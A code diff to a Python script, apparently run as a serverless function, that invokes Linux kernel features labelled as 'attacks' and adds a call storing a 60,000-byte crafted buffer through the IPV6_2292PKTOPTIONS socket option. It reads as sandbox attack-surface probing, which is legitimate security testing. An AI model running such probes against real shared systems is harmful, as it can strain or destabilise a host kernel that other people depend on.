@@ -13,10 +13,13 @@ SYNCFS, SECCOMP, OPENAT2, CACHESTAT = 306, 317, 437, 451
 DONTNEED, MS_SYNC, MADV_MERGEABLE, MADV_PAGEOUT = 4, 4, 12, 21
 PR_SET_SECCOMP, PR_SET_MEMORY_MERGE = 22, 67
 SO_ATTACH_FILTER, SO_ATTACH_REUSEPORT_CBPF, SO_ZEROCOPY = 26, 51, 60
-UDP_CORK, MSG_MORE = 1, 0x8000
+UDP_CORK, MSG_MORE, IPV6_2292PKTOPTIONS = 1, 0x8000, 6
 
 # Calls that came with a version of Linux; before it there is nothing to attack.
 LINUX = tuple(int(part) for part in os.uname().release.split(".")[:2])
+
+# As much as one socket may keep; less before Linux 6.7.
+OPTIONS_FIT = LINUX >= (6, 7)
 
 libc.mmap.restype = ctypes.c_void_p
 libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
@@ -112,6 +115,13 @@ def join_a_group():
         one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
 
 
+def keep_options():
+    """For every packet, up to 64 KiB, of a kind that nothing is done with."""
+    kept = struct.pack("QII", 60_000, 99, 0).ljust(60_000, b"\0")
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
+        one.setsockopt(socket.IPPROTO_IPV6, IPV6_2292PKTOPTIONS, kept)
+
+
 def send_without_copying():
     with socket.socket() as one:
         one.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
@@ -164,6 +174,8 @@ def handler(event, context):
     attack("filter a socket", lambda: filter_a_socket(SO_ATTACH_FILTER))
     attack("filter a group of sockets", lambda: filter_a_socket(SO_ATTACH_REUSEPORT_CBPF))
     attack("join a group", join_a_group)
+    if OPTIONS_FIT:
+        attack("keep options for every packet", keep_options)
     attack("send without copying", send_without_copying)
     attack("keep a datagram unsent", lambda: keep_a_datagram(MSG_MORE, False))
     attack("keep all datagrams unsent", lambda: keep_a_datagram(0, True))
